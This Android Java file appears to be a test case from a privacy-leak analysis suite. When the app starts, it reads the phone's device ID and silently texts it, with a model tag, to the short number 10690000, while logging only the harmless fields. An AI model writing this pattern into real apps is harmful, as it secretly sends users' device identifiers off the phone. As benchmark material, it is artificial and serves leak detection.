package cn.privlens.suite.built_report_told_in_part;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.Log;

public class Main extends Activity {
    static final class Report {
        private final String number;
        private final String model;
        private final int tries;

        private Report(Maker from) {
            number = from.number;
            model = from.model;
            tries = from.tries;
        }

        @Override
        public String toString() {
            return "报告{" + model + ", " + tries + "}";
        }

        String whole() {
            return model + "/" + number;
        }

        static final class Maker {
            private String number;
            private String model;
            private int tries;

            Maker number(String to) {
                number = to;
                return this;
            }

            Maker model(String to) {
                model = to;
                return this;
            }

            Maker tries(int to) {
                tries = to;
                return this;
            }

            Report make() {
                return new Report(this);
            }
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        Report report = new Report.Maker().number(phone.getDeviceId()).model("甲").tries(3).make();
        Log.i("suite", "made " + report);
        SmsManager.getDefault().sendTextMessage("10690000", null, report.whole(), null, null);
    }
}
